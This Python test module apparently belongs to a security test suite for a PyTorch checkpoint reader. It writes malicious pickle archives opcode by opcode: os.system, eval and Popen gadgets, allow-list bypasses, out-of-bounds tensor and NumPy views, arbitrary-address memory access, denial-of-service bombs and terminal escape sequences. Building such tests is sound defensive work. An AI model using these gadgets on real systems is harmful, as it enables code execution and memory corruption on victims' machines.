"""Pickles that call, and pickles that lie about the tensors of an archive.

Written opcode by opcode, since no pickler would write them.
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from attacks import CANARY, attack

PROTO, STOP = b"\x80\x02", b"."
REDUCE, BUILD, NEWOBJ = b"R", b"b", b"\x81"
TUPLE1, TUPLE2 = b"\x85", b"\x86"


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<L", len(data)) + data


def number(value: int) -> bytes:
    size = value.bit_length() // 8 + 1
    data = value.to_bytes(size, "little", signed=True)
    return b"\x8a" + bytes([size]) + data if size < 256 else b"\x8b" + struct.pack("<l", size) + data


class Raw(bytes):
    """Opcodes that leave one object on the stack."""


def opcodes(value: Any) -> bytes:
    if isinstance(value, Raw):
        return value
    if isinstance(value, str):
        return text(value)
    if value is None or isinstance(value, bool):
        return {None: b"N", True: b"\x88", False: b"\x89"}[value]
    if isinstance(value, int):
        return number(value)
    if isinstance(value, tuple):
        return b"(" + b"".join(map(opcodes, value)) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(map(opcodes, value)) + b"e"
    assert isinstance(value, dict)
    return b"}(" + b"".join(opcodes(k) + opcodes(v) for k, v in value.items()) + b"u"


def name(what: str) -> Raw:
    module, _, attribute = what.rpartition(".")
    return Raw(f"c{module}\n{attribute}\n".encode())


def call(function: str | Raw, *arguments: Any) -> Raw:
    return Raw(opcodes(name(function) if not isinstance(function, Raw) else function) + opcodes(arguments) + REDUCE)


def storage(key: Any = "0", numel: Any = 4, kind: str = "torch.FloatStorage", device: Any = "cpu") -> Raw:
    return Raw(opcodes(("storage", name(kind), key, device, numel)) + b"Q")


def tensor(
    offset: Any = 0,
    size: Any = (4,),
    stride: Any = (1,),
    key: Any = "0",
    numel: Any = 4,
    kind: str = "torch.FloatStorage",
) -> Raw:
    hooks = call("collections.OrderedDict")
    return call("torch._utils._rebuild_tensor_v2", storage(key, numel, kind), offset, size, stride, False, hooks)


def archive(folder: Path, obj: Any, records: Mapping[str, bytes] | None = None) -> Path:
    """An archive of torch.save with this object, opcodes or whole pickle, and a storage of four floats."""
    pickle = obj if isinstance(obj, bytes) and not isinstance(obj, Raw) else PROTO + opcodes(obj) + STOP
    path = folder / "x.pt"
    with zipfile.ZipFile(path, "w") as file:
        entries = {
            "data.pkl": pickle,
            "byteorder": b"little",
            "version": b"3\n",
            **(records or {"data/0": b"\0\0\x80?" * 4}),
        }
        for entry, data in entries.items():
            file.writestr(zipfile.ZipInfo(f"archive/{entry}"), data)
    return path


def system(folder: Path) -> bytes:
    return PROTO + call("os.system", f"touch '{folder / CANARY}'") + STOP


# Gadgets


@attack(trap=True)
def os_system(folder: Path) -> Path:
    """The plainest gadget: a call of os.system."""
    return archive(folder, system(folder))


@attack(trap=True)
def posix_system(folder: Path) -> Path:
    """The same function under the name of the module that it is from."""
    return archive(folder, {"x": call("posix.system", f"touch '{folder / CANARY}'")})


@attack(trap=True)
def builtins_eval(folder: Path) -> Path:
    """builtins.eval of an expression."""
    return archive(folder, {"x": call("builtins.eval", f"open({str(folder / CANARY)!r}, 'w')")})


@attack(trap=True)
def old_builtins_exec(folder: Path) -> Path:
    """exec under Python 2's name for builtins, which unpicklers translate."""
    return archive(folder, {"x": call("__builtin__.eval", f"open({str(folder / CANARY)!r}, 'w')")})


@attack(trap=True)
def subprocess_popen(folder: Path) -> Path:
    """A class whose making is a call."""
    return archive(folder, {"x": call("subprocess.Popen", ["touch", str(folder / CANARY)])})


@attack(trap=True)
def getattr_chain(folder: Path) -> Path:
    """getattr climbs from a module that looks harmless to os.system."""
    return archive(
        folder,
        call(call("builtins.getattr", call("importlib.import_module", "os"), "system"), f"touch '{folder / CANARY}'"),
    )


@attack
def dotted_name(folder: Path) -> Path:
    """A name with a dot in it: torch, then serialization.os.system."""
    return archive(folder, call(Raw(b"ctorch\nserialization.os.system\n"), f"touch '{folder / CANARY}'"))


@attack(trap=True)
def stack_global(folder: Path) -> Path:
    """The newer opcode that takes module and name from the stack, in protocol 4."""
    function = Raw(text("os") + text("system") + b"\x93")
    return archive(folder, b"\x80\x04" + call(function, f"touch '{folder / CANARY}'") + STOP)


@attack(trap=True)
def inst_opcode(folder: Path) -> Path:
    """INST, an opcode of 1995 which names and calls at once."""
    return archive(folder, b"(" + text(f"touch '{folder / CANARY}'") + b"ios\nsystem\n.")


@attack(trap=True)
def obj_opcode(folder: Path) -> Path:
    """OBJ, its brother."""
    return archive(folder, b"(cos\nsystem\n" + text(f"touch '{folder / CANARY}'") + b"o.")


@attack(trap=True)
def newobj_of_a_function_that_is_none(folder: Path) -> Path:
    """NEWOBJ makes a Popen, BUILD and REDUCE are not needed."""
    made = name("pathlib.Path") + opcodes((str(folder / CANARY),)) + NEWOBJ
    return archive(folder, call(call("builtins.getattr", Raw(made), "touch")))


@attack(trap=True)
def build_with_setstate(folder: Path) -> Path:
    """BUILD on an object that was given a __setstate__ of the attacker's choice: os.system."""
    made = name("types.SimpleNamespace") + b")\x81"
    states = opcodes({"__setstate__": name("os.system")}) + BUILD + text(f"touch '{folder / CANARY}'") + BUILD
    return archive(folder, PROTO + made + states + STOP)


@attack(harmless="attributes of an object, which nobody calls")
def build_an_ordered_dict(folder: Path) -> Path:
    """BUILD, which is allowed for OrderedDict, replaces its methods by strings."""
    made = call("collections.OrderedDict") + opcodes({"items": 5, "keys": None, "__len__": 7}) + BUILD
    return archive(folder, {"model": Raw(made), "optimizer": Raw(made), "x": {}, "rng": Raw(made)})


@attack(trap=True)
def torch_load_nested(folder: Path) -> Path:
    """A call of torch.load on another file, with weights_only=False."""
    inner = folder / "inner.pt"
    archive(folder, system(folder)).rename(inner)
    return archive(folder, {"x": call("torch.load", str(inner), None, None)} if False else nested(inner))


def nested(inner: Path) -> dict[str, Any]:
    load = call("functools.partial", name("torch.load"))
    keywords = Raw(load + opcodes((name("torch.load"), (), {"weights_only": False}, {})) + BUILD)
    return {"x": call(keywords, str(inner))}


@attack
def blocked_even_if_allowed(folder: Path) -> Path:
    """sys.modules, from which everything can be had."""
    return archive(folder, {"x": name("sys.modules")})


@attack
def torch_functions(folder: Path) -> Path:
    """Functions of torch that compile, load or call: not on the list."""
    return archive(
        folder, {"x": call("torch.hub.load", "x", "y"), "y": call("torch.utils.cpp_extension.load", "x", ["y"])}
    )


@attack
def rebuild_from_type_of_a_function(folder: Path) -> Path:
    """_rebuild_from_type_v2 is allowed, and calls what it is given: a function that is not."""
    gadget = (name("os.system"), name("torch.Tensor"), (f"touch '{folder / CANARY}'",), {})
    return archive(folder, {"x": call("torch._tensor._rebuild_from_type_v2", *gadget)})


@attack
def extension_codes(folder: Path) -> Path:
    """EXT1, EXT2 and EXT4 name functions that a program has registered by number."""
    return archive(folder, PROTO + b"(\x82\x01\x83\x02\0\x84\x03\0\0\0l.")


@attack
def persistent_text(folder: Path) -> Path:
    """A persistent id that is a line of text."""
    return archive(folder, PROTO + b"Pmodule\n.")


@attack
def persistent_module(folder: Path) -> Path:
    """A persistent id of another kind, as TorchScript's packages have: code."""
    return archive(folder, {"x": Raw(opcodes(("module", "os", "system", "cpu", 1)) + b"Q")})


@attack
def persistent_nested(folder: Path) -> Path:
    """A persistent id whose key is a tuple of itself, ten thousand deep."""
    return archive(
        folder,
        {
            "x": Raw(
                opcodes(("storage", name("torch.FloatStorage")))[:-1]
                + b")"
                + TUPLE1 * 10_000
                + text("cpu")
                + number(4)
                + b"tQ"
            )
        },
    )


# NumPy and the standard library, as far as lazyckpt reads them


def built(obj: Raw, state: Any) -> Raw:
    return Raw(obj + opcodes(state) + BUILD)


def in_bytes(value: bytes) -> Raw:
    return call("_codecs.encode", value.decode("latin-1"), "latin1")


def dtype(code: str, *state: Any) -> Raw:
    made = call("numpy.dtype", code, False, True)
    return built(made, state) if state else made


def array(shape: Any, kind: Raw, data: bytes) -> Raw:
    empty = call("numpy._core.multiarray._reconstruct", name("numpy.ndarray"), (0,), in_bytes(b"b"))
    return built(empty, (1, shape, kind, False, in_bytes(data)))


@attack
def array_of_pointers(folder: Path) -> Path:
    """An array of objects whose bytes are addresses, of a type whose flags say that it has none."""
    objects = dtype("O8", 3, "|", None, None, None, -1, -1, 0)
    return archive(folder, {"x": array((2,), objects, b"\1\0\0\0\0\0\0\0" * 2)})


@attack
def array_with_fields_of_objects(folder: Path) -> Path:
    """The same in a field: a type of eight bytes is given one."""
    fields = {"a": (dtype("O8"), 0)}
    kind = dtype("V8", 3, "|", None, ("a",), fields, 8, 1, 0)
    return archive(folder, {"x": array((2,), kind, b"\1\0\0\0\0\0\0\0" * 2)})


@attack
def dtype_of_any_size(folder: Path) -> Path:
    """Text of five characters whose state says that an item has one byte."""
    return archive(folder, {"x": array((2,), dtype("U5", 3, "<", None, None, None, 1, 4, 8), b"ab")})


@attack
def dtype_of_everybody(folder: Path) -> Path:
    """Without a copy numpy.dtype returns NumPy's own, whose byte order is then changed."""
    return archive(folder, {"x": built(call("numpy.dtype", "f8", False, False), (3, ">", None, None, None, -1, -1, 0))})


@attack
def array_of_nobodys_memory(folder: Path) -> Path:
    """numpy.ndarray without a buffer shows what was in memory before."""
    return archive(folder, {"x": call("numpy.ndarray", (1 << 20,), dtype("u1"))})


@attack
def array_by_newobj(folder: Path) -> Path:
    """The same through NEWOBJ, and terabytes of it."""
    return archive(folder, {"x": Raw(name("numpy.ndarray") + opcodes(((1 << 42,), dtype("u1"))) + NEWOBJ)})


@attack
def array_of_strides(folder: Path) -> Path:
    """numpy.ndarray with strides walks out of its buffer."""
    memory = call("numpy.asarray", tensor(0, (16,), (1,), numel=16, kind="torch.ByteStorage"))
    return archive(folder, {"x": call("numpy.ndarray", (16,), dtype("u1"), memory, 0, (1 << 20,), "C")})


@attack
def array_beyond_its_storage(folder: Path) -> Path:
    """An array that has more items than its storage."""
    memory = call("numpy.asarray", tensor(0, (16,), (1,), numel=16, kind="torch.ByteStorage"))
    return archive(folder, {"x": call("numpy.ndarray", (1 << 20,), dtype("f8"), memory, 0, None, "C")})


@attack
def array_of_empty_items(folder: Path) -> Path:
    """Items without bytes: an array of any length takes none, and a set of it takes forever."""
    return archive(folder, {"x": call("builtins.set", array((1 << 50,), dtype("S0"), b""))})


@attack
def array_of_a_wrapping_shape(folder: Path) -> Path:
    """A shape whose size wraps around to that of the bytes."""
    shape = ((1 << 63) - 1, 2, 1)
    return archive(folder, {"x": array(shape, dtype("u1"), b""), "y": array((-1, -4), dtype("u1"), b"abcd")})


@attack
def array_built_twice(folder: Path) -> Path:
    """A second state frees the memory that a view of the array still shows."""
    first = Raw(array((16,), dtype("u1"), b"0123456789abcdef") + b"q\x07")
    view = call("numpy.ndarray", (16,), dtype("u1"), Raw(b"h\x07"), 0, None, "C")
    again = built(Raw(b"h\x07"), (1, (1,), dtype("u1"), False, in_bytes(b"x")))
    return archive(folder, {"a": first, "b": view, "c": again})


@attack
def array_state_by_rebuild(folder: Path) -> Path:
    """A state through a function of torch that calls what it is given, and sets the state of what it gets."""
    make = name("numpy._core.multiarray._reconstruct")
    empty = (name("numpy.ndarray"), (0,), in_bytes(b"b"))
    state = (1, (1 << 50,), dtype("S0"), False, in_bytes(b""))
    made = call("torch._tensor._rebuild_from_type_v2", make, empty[0], empty, state)
    return archive(folder, {"x": call("builtins.set", made)})


@attack
def scalar_without_bytes(folder: Path) -> Path:
    """A number whose bytes are not there."""
    return archive(folder, {"x": call("numpy._core.multiarray.scalar", dtype("S999999999"), in_bytes(b""))})


@attack
def scalar_of_an_object(folder: Path) -> Path:
    """A scalar of objects is whatever it is given."""
    return archive(folder, {"x": call("numpy._core.multiarray.scalar", dtype("O8"), name("numpy.ndarray"))})


@attack
def view_of_wrapping_numbers(folder: Path) -> Path:
    """A tensor whose size and stride are numbers of NumPy with 32 bits: their product wraps around to 0."""
    size, stride = (
        call("numpy._core.multiarray.scalar", dtype("i4"), in_bytes(struct.pack("<i", n))) for n in (65_537, 65_536)
    )
    return archive(folder, {"x": tensor(0, (size,), (stride,))})


@attack
def path_of_anything(folder: Path) -> Path:
    """A path made of an object that is no text."""
    return archive(folder, {"x": call("pathlib.PosixPath", call("collections.OrderedDict"))})


@attack
def path_with_a_state(folder: Path) -> Path:
    """BUILD on a path replaces its parts, or its class."""
    return archive(folder, {"x": built(call("pathlib.PosixPath", "a"), (None, {"__class__": name("torch.Tensor")}))})


@attack
def date_out_of_range(folder: Path) -> Path:
    """The year 0, whose day of the week is read from in front of a table."""
    return archive(folder, {"x": call("datetime.datetime", in_bytes(b"\0\0\1\xff\xff\xff\xff\xff\xff\xff"))})


@attack
def bytes_of_a_number(folder: Path) -> Path:
    """bytes, given a number, makes 16 GiB of zeros."""
    return archive(folder, {"x": call("builtins.bytes", 16 << 30)})


@attack
def frozen_set_of_a_deep_tuple(folder: Path) -> Path:
    """A frozen set hashes what it holds, by recursion."""
    deep = Raw(b"K\x01" + TUPLE1 * 1_000_000)
    return archive(folder, {"x": call("builtins.frozenset", [deep])})


# Memory, stack and time


@attack(harmless="the memo is a dict")
def memo_index(folder: Path) -> Path:
    """A memo with the index 2^31: the unpickler in C makes room for all below."""
    return archive(folder, PROTO + b"Nr\xff\xff\xff\x7f.")


@attack
def memo_missing(folder: Path) -> Path:
    """A memo that was never put."""
    return archive(folder, PROTO + b"h\x07.")


@attack
def empty_stack(folder: Path) -> Path:
    """Opcodes that take what is not on the stack."""
    return archive(folder, PROTO + b"\x85\x87Rbu.")


@attack
def no_mark(folder: Path) -> Path:
    """Opcodes that look for a mark which was never set."""
    return archive(folder, PROTO + b"]K\x01eu.")


@attack
def long_text(folder: Path) -> Path:
    """A string of 4 GiB, of which five bytes are there."""
    return archive(folder, PROTO + b"X\xff\xff\xff\xffhello.")


@attack
def long_bytearray(folder: Path) -> Path:
    """BYTEARRAY8 of 64 GiB: room is made before it is read."""
    return archive(folder, b"\x80\x05\x96" + struct.pack("<Q", 64 << 30) + b"x.")


@attack
def long_frame(folder: Path) -> Path:
    """A frame of 2^62 bytes."""
    return archive(folder, b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N.")


@attack
def long_number(folder: Path) -> Path:
    """LONG4 with a negative length."""
    return archive(folder, PROTO + b"\x8b\xff\xff\xff\xff.")


@attack
def bytearray_of_a_number(folder: Path) -> Path:
    """bytearray is allowed, for its bytes; given a number, it makes 16 GiB of zeros."""
    return archive(folder, {"x": call("builtins.bytearray", 16 << 30)})


@attack(harmless="bytearray.__new__ takes no notice of a length")
def bytearray_by_newobj(folder: Path) -> Path:
    """The same through NEWOBJ."""
    return archive(folder, {"x": Raw(name("builtins.bytearray") + opcodes((16 << 30,)) + NEWOBJ + opcodes({}) + BUILD)})


@attack
def bytearray_by_rebuild(folder: Path) -> Path:
    """The same through a function that calls what it is given."""
    rebuild = (name("builtins.bytearray"), name("builtins.bytearray"), (16 << 30,), {})
    return archive(folder, {"x": call("torch._tensor._rebuild_from_type_v2", *rebuild)})


@attack
def tensor_of_a_number(folder: Path) -> Path:
    """torch.Tensor, given a number, is as long as that."""
    return archive(folder, {"x": call("torch.Tensor", 1 << 40)})


@attack
def untyped_storage_of_a_number(folder: Path) -> Path:
    """torch.storage.UntypedStorage, given a number, is as long as that."""
    return archive(folder, {"x": call("torch.storage.UntypedStorage", 1 << 42)})


@attack
def tensors_that_share_their_sizes(folder: Path) -> Path:
    """Each of 500 tensors copies one tuple of 20,000 sizes: 43 kB of opcodes took 660 MiB."""
    sizes = opcodes((1,) * 20_000) + b"q\x00"
    rebuild, arguments = (
        name("torch._utils._rebuild_tensor_v2") + b"q\x01",
        opcodes((storage(), 0, Raw(b"h\0"), Raw(b"h\0"), False, call("collections.OrderedDict"))) + b"q\x02",
    )
    return archive(folder, Raw(b"](" + sizes + rebuild + arguments + b"h\x01h\x02R" * 500 + b"e"))


@attack
def hash_of_a_deep_tuple(folder: Path) -> Path:
    """A key that is a tuple a million deep: its hash overflows the C stack, which no exception tells."""
    return archive(folder, PROTO + b"})" + TUPLE1 * 1_000_000 + b"Ns.")


@attack
def hash_of_a_deep_tuple_among_others(folder: Path) -> Path:
    """The same among several keys that are set at once."""
    return archive(folder, PROTO + b"}(NN)" + TUPLE1 * 1_000_000 + b"Nu.")


@attack
def hash_of_a_deep_tuple_in_a_set(folder: Path) -> Path:
    """The same as the member of a set, whose making is a call."""
    return archive(
        folder, PROTO + name("builtins.set") + b"](" + b")" + TUPLE1 * 1_000_000 + b"e" + TUPLE1 + REDUCE + STOP
    )


@attack
def hash_of_a_deep_tuple_by_rebuild(folder: Path) -> Path:
    """The same through a function that calls what it is given."""
    arguments = name("builtins.set") + name("builtins.set") + b"](" + b")" + TUPLE1 * 1_000_000 + b"e" + TUPLE1 + b"N"
    return archive(
        folder, PROTO + name("torch._tensor._rebuild_from_type_v2") + b"(" + arguments + b"t" + REDUCE + STOP
    )


@attack
def hash_of_a_wide_tuple(folder: Path) -> Path:
    """A key that is a pair of a pair of a pair, all the same: its hash takes 2^64 steps."""
    pairs = b"".join(b"q%ch%c" % (n, n) + TUPLE2 for n in range(64))
    return archive(folder, PROTO + b"})" + pairs + b"Ns.")


@attack
def hash_of_a_deep_size(folder: Path) -> Path:
    """torch.Size makes tuples of lists: depth without an opcode for tuples."""
    deep = b")" + (TUPLE1 + b"q\0" + b"0" + name("torch.Size") + b"](h\0e" + TUPLE1 + REDUCE) * 60_000
    return archive(folder, PROTO + b"}" + deep + b"Ns.")


@attack(harmless="a tree may be as deep as a pickle without recursion makes it")
def deep_list(folder: Path) -> Path:
    """A list a hundred thousand deep, for whoever walks it by recursion."""
    return archive(folder, PROTO + b"]" * 100_000 + b"a" * 99_999 + STOP)


@attack(harmless="lists may be shared")
def a_billion_laughs(folder: Path) -> Path:
    """A list of ten lists of ten lists, all shared: 10^30 paths in a thousand bytes."""
    laughs = b"".join(b"q%c](" % n + b"h%c" % n * 10 + b"e" for n in range(30))
    return archive(folder, PROTO + text("ha") + laughs + STOP)


@attack(harmless="names may be long")
def long_paths(folder: Path) -> Path:
    """One name of a megabyte above a hundred thousand values: their paths would take a hundred gigabytes."""
    return archive(folder, {"a" * (1 << 20): Raw(b"](" + b"N" * 100_000 + b"](NeeNa" + b"")})


@attack
def a_million_names(folder: Path) -> Path:
    """Two hundred thousand different functions are named, each of which a reader may make an object for."""
    return archive(folder, PROTO + b"(" + b"".join(b"ca\n%x\n0" % n for n in range(200_000)) + b"t.")


@attack
def slow_codec(folder: Path) -> Path:
    """_codecs.encode is allowed, for bytes; some of its codecs are programs that take quadratic time."""
    return archive(
        folder, {"x": call("_codecs.encode", "".join(chr(0x4E00 + n % 20000) for n in range(200_000)), "punycode")}
    )


# Tensors


@attack
def storage_missing(folder: Path) -> Path:
    """A storage that is not in the archive."""
    return archive(folder, {"x": tensor(key="7")})


@attack
def storage_by_a_number(folder: Path) -> Path:
    """One storage by the key "0" and by the key 0: shared for one reader, two copies for another."""
    return archive(folder, {"x": tensor(), "y": tensor(key=0)})


@attack
def storage_of_another_length(folder: Path) -> Path:
    """A storage that declares more elements than its record has bytes for."""
    return archive(folder, {"x": tensor(numel=5)})


@attack
def storage_of_another_type(folder: Path) -> Path:
    """The same by the size of its elements."""
    return archive(folder, {"x": tensor(kind="torch.DoubleStorage")})


@attack
def storage_negative(folder: Path) -> Path:
    """A storage of minus four elements."""
    return archive(folder, {"x": tensor(numel=-4)})


@attack
def storage_overflowing(folder: Path) -> Path:
    """A storage of 2^62 + 4 elements of four bytes: sixteen bytes, in 64 bits."""
    return archive(folder, {"x": tensor(numel=(1 << 62) + 4)})


@attack
def storage_above(folder: Path) -> Path:
    """A storage whose key climbs out of its folder."""
    return archive(folder, {"x": tensor(key="../version", numel=2, kind="torch.ByteStorage")})


@attack
def storage_on_a_strange_device(folder: Path) -> Path:
    """A location that somebody may parse."""
    return archive(
        folder,
        {"x": call("torch._utils._rebuild_tensor_v2", storage(device="cuda:999999999999"), 0, (4,), (1,), False, {})},
    )


@attack
def view_beyond(folder: Path) -> Path:
    """A view that is longer than its storage."""
    return archive(folder, {"x": tensor(size=(1 << 20,))})


@attack
def view_by_stride(folder: Path) -> Path:
    """A view whose second element is behind the storage."""
    return archive(folder, {"x": tensor(size=(2,), stride=(1 << 40,))})


@attack
def view_by_offset(folder: Path) -> Path:
    """An offset behind the storage."""
    return archive(folder, {"x": tensor(offset=1 << 40, size=(1,))})


@attack
def view_before(folder: Path) -> Path:
    """An offset in front of the storage."""
    return archive(folder, {"x": tensor(offset=-1, size=(1,))})


@attack
def view_backwards(folder: Path) -> Path:
    """A negative stride."""
    return archive(folder, {"x": tensor(stride=(-1,))})


@attack
def view_negative(folder: Path) -> Path:
    """Negative sizes."""
    return archive(folder, {"x": tensor(size=(-2, -2), stride=(1, 1))})


@attack
def view_overflowing(folder: Path) -> Path:
    """Sizes and strides whose product overflows to something that fits."""
    return archive(folder, {"x": tensor(size=(1 << 32, 1 << 32), stride=(1 << 32, 1))})


@attack
def view_of_big_numbers(folder: Path) -> Path:
    """Sizes of twenty thousand bits: more digits than Python prints."""
    return archive(folder, {"x": tensor(size=(1 << 20_000,))})


@attack
def view_of_a_hundred_thousand_dimensions(folder: Path) -> Path:
    """A size with a hundred thousand dimensions of 62 bits, whose product somebody may compute."""
    return archive(folder, {"x": tensor(size=(1 << 62,) * 100_000, stride=(1,) * 100_000)})


@attack
def view_of_text(folder: Path) -> Path:
    """Sizes and strides that are text with escape sequences."""
    return archive(folder, {"x": tensor(size=("\x1b[2J",), stride=("\x1b[2J",))})


@attack
def view_v3(folder: Path) -> Path:
    """The same lie through the function for dtypes without a storage type."""
    bytes_16 = storage(numel=16, kind="torch.storage.UntypedStorage")
    return archive(
        folder,
        {"x": call("torch._utils._rebuild_tensor_v3", bytes_16, 0, (1 << 20,), (1,), False, {}, name("torch.uint16"))},
    )


@attack
def view_by_legacy_build(folder: Path) -> Path:
    """BUILD on a tensor, as torch 0.1 pickled it, is set_() with the attacker's numbers."""
    made = call("torch.Tensor") + opcodes((storage(), 0, (1 << 20,), (1,))) + BUILD
    return archive(folder, {"x": Raw(made)})


@attack
def meta_tensor_overflowing(folder: Path) -> Path:
    """A tensor without memory, of a size that overflows."""
    return archive(
        folder,
        {
            "x": call(
                "torch._utils._rebuild_meta_tensor_no_storage", name("torch.float32"), (1 << 62, 1 << 62), (1, 1), False
            )
        },
    )


@attack
def sparse_indices_outside(folder: Path) -> Path:
    """A sparse tensor of three elements with one at index 2^40: to_dense() writes there."""
    indices = tensor(key="1", numel=1, size=(1, 1), stride=(1, 1), kind="torch.LongStorage")
    values = tensor(key="0", size=(1,))
    layout = call("torch.serialization._get_layout", "torch.sparse_coo")
    made = call("torch._utils._rebuild_sparse_tensor", layout, (indices, values, call("torch.Size", (3,)), True))
    return archive(folder, {"x": made}, {"data/0": bytes(16), "data/1": struct.pack("<q", 1 << 40)})


@attack
def sparse_rows_outside(folder: Path) -> Path:
    """A compressed sparse tensor whose row pointers and columns lie."""
    rows = tensor(key="1", numel=4, size=(4,), kind="torch.LongStorage")
    columns = tensor(key="2", numel=1, size=(1,), kind="torch.LongStorage")
    layout = call("torch.serialization._get_layout", "torch.sparse_csr")
    made = call(
        "torch._utils._rebuild_sparse_tensor", layout, (rows, columns, tensor(size=(1,)), call("torch.Size", (3, 3)))
    )
    lies = {
        "data/0": bytes(16),
        "data/1": struct.pack("<4q", 0, 1 << 30, 1 << 31, 1),
        "data/2": struct.pack("<q", 1 << 40),
    }
    return archive(folder, {"x": made}, lies)


@attack
def nested_tensor_outside(folder: Path) -> Path:
    """A nested tensor over four floats whose parts begin a gigabyte behind them."""
    whole = tensor()
    sizes = tensor(key="1", numel=1, size=(1, 1), stride=(1, 1), kind="torch.LongStorage")
    strides = tensor(key="1", numel=1, size=(1, 1), stride=(1, 1), kind="torch.LongStorage")
    offsets = tensor(key="2", numel=1, size=(1,), kind="torch.LongStorage")
    made = call("torch._utils._rebuild_nested_tensor", whole, sizes, strides, offsets)
    lies = {"data/0": bytes(16), "data/1": struct.pack("<q", 1), "data/2": struct.pack("<q", 1 << 28)}
    return archive(folder, {"x": made}, lies)


@attack
def quantized_axis_outside(folder: Path) -> Path:
    """A quantised tensor of four elements with scales for two, along its hundredth dimension."""
    scheme = name("torch.per_channel_affine")
    scales = tensor(key="1", numel=2, size=(2,), kind="torch.DoubleStorage")
    zeros = tensor(key="2", numel=2, size=(2,), kind="torch.LongStorage")
    quantizer = (scheme, scales, zeros, 100)
    made = call(
        "torch._utils._rebuild_qtensor",
        storage(numel=4, kind="torch.QInt8Storage"),
        0,
        (4,),
        (1,),
        quantizer,
        False,
        {},
    )
    return archive(folder, {"x": made}, {"data/0": bytes(4), "data/1": bytes(16), "data/2": bytes(16)})


@attack(harmless="names and values may be any text; they are escaped where they are shown")
def escapes_in_names(folder: Path) -> Path:
    """Names and values that clear the screen, turn text around and write the clipboard."""
    evil = "\x1b[2J\x1b]52;c;YQ==\x07\u202e\x9b31m\x7f\r\n"
    return archive(folder, {evil: tensor(), "x": evil, "y": {evil: [tensor(), evil]}, "\ud800": 1})


@attack
def escapes_in_globals(folder: Path) -> Path:
    """Functions whose names are escape sequences; who refuses them says so."""
    return archive(folder, {"x": call(Raw(b"c\x1b[2J\n\x1b]0;owned\x07\n"), 1)})


@attack
def escapes_in_an_array(folder: Path) -> Path:
    """A NumPy array whose dtype and shape are escape sequences."""
    dtype = call("numpy.dtype", "\x1b[2J")
    return archive(
        folder, {"x": call("numpy.ndarray", ("\x1b[2J",), dtype, call("numpy.asarray", tensor())), "y": tensor()}
    )


@attack
def escapes_by_build(folder: Path) -> Path:
    """BUILD puts other attributes into what a reader has made of a tensor and its storage."""
    evil = {"dtype": "\x1b[2J", "shape": ("\x1b[2J",), "record": 5, "storage": "\x1b[2J", "kind": 7, "stride": {}}
    return archive(folder, {"x": Raw(tensor() + opcodes(evil) + BUILD), "y": Raw(storage() + opcodes(evil) + BUILD)})


@attack
def build_a_function(folder: Path) -> Path:
    """BUILD with slots sets attributes of a function: its defaults, which stay for the next file."""
    state = opcodes((None, {"__defaults__": (1, 2, 3), "__kwdefaults__": {}, "__doc__": "\x1b[2J"}))
    return archive(folder, {"x": Raw(name("torch._utils._rebuild_tensor_v2") + state + BUILD)})


@attack
def strange_keys(folder: Path) -> Path:
    """Keys that cannot be hashed, and keys that are functions and tensors."""
    return archive(folder, PROTO + b"}" + tensor() + b"Ns" + name("torch.Size") + b"Ns" + b"]Ns.")


def _tensor_with(attributes: dict[str, Any], function: str = "torch._utils._rebuild_tensor_v2", *arguments: Any) -> Raw:
    """A tensor that is given attributes when it is rebuilt."""
    own = storage("0", 16, "torch.ByteStorage"), 0, (16,), (1,), False, call("collections.OrderedDict")
    what = name(function), name("torch.Tensor"), arguments or own, attributes
    return call("torch._tensor._rebuild_from_type_v2", *what)


def _memory_at(address: int) -> Raw:
    """An array that NumPy takes to be at this address."""
    where = {"data": (address, False), "shape": (16,), "typestr": "|u1", "version": 3}
    return call("numpy.asarray", _tensor_with({"__array_interface__": where}))


@attack
def tensor_that_shows_memory(folder: Path) -> Path:
    """An attribute by which NumPy takes any address for an array."""
    return archive(folder, {"x": _memory_at(4096)})


@attack
def tensor_that_writes_memory(folder: Path) -> Path:
    """Setting ``Tensor.real`` copies into the memory of the tensor, which is that of an array at any address."""
    onto = "torch._utils._rebuild_device_tensor_from_numpy", _memory_at(4096), name("torch.uint8"), "cpu", False
    return archive(
        folder, {"x": _tensor_with({"real": tensor(0, (16,), (1,), numel=16, kind="torch.ByteStorage")}, *onto)}
    )


@attack
def parameter_whose_data_are_replaced(folder: Path) -> Path:
    """The same by the state of a parameter."""
    hooks = call("collections.OrderedDict")
    state = {"data": tensor(0, (16,), (1,), numel=16, kind="torch.ByteStorage")}
    return archive(folder, {"x": call("torch._utils._rebuild_parameter_with_state", tensor(), False, hooks, state)})


@attack
def array_of_too_many_dimensions(folder: Path) -> Path:
    """NumPy has room for 64 lengths, and shows what lies behind them."""
    return archive(folder, {"x": array((0,) * 200, dtype("u1"), b"")})


@attack
def rows_of_nothing_as_a_size(folder: Path) -> Path:
    """An array without a byte has as many rows as it likes."""
    return archive(folder, {"x": call("torch.Size", array((1 << 40, 0), dtype("u1"), b""))})


@attack
def rows_of_nothing_as_arguments(folder: Path) -> Path:
    """The same where it is unpacked."""
    return archive(folder, {"x": Raw(name("collections.OrderedDict") + array((1 << 40, 0), dtype("u1"), b"") + REDUCE)})


@attack
def sets_of_one_list(folder: Path) -> Path:
    """One list of 50,000 numbers, made into a set 10,000 times for four bytes each."""
    numbers = b"](" + b"".join(b"M" + struct.pack("<H", n) for n in range(50_000)) + b"e"
    sets = numbers + TUPLE1 + b"q\x02" + name("builtins.frozenset") + b"q\x01" + b"h\x01h\x02R" * 10_000
    return archive(folder, PROTO + b"](" + sets + b"e" + STOP)


@attack
def path_of_one_long_name(folder: Path) -> Path:
    """One name of 50,000 letters, joined to itself 75,000 times for two bytes each."""
    made = name("pathlib.PosixPath") + b"(" + text("a/" * 25_000) + b"q\x01" + b"h\x01" * 75_000 + b"t" + REDUCE
    return archive(folder, PROTO + made + STOP)


@attack
def tensor_set_to_more_than_there_is(folder: Path) -> Path:
    """The legacy way of building a tensor: the arguments of ``Tensor.set_``, which enlarges the storage."""
    state = opcodes((storage(), 0, (1 << 40,), (1,)))
    return archive(folder, {"x": Raw(tensor() + state + BUILD)})


@attack
def parameter_set_to_more_than_there_is(folder: Path) -> Path:
    """The same for a parameter."""
    state = opcodes((storage(), 0, (1 << 40,), (1,)))
    made = call("torch._utils._rebuild_parameter", tensor(), False, call("collections.OrderedDict"))
    return archive(folder, {"x": Raw(made + state + BUILD)})


@attack
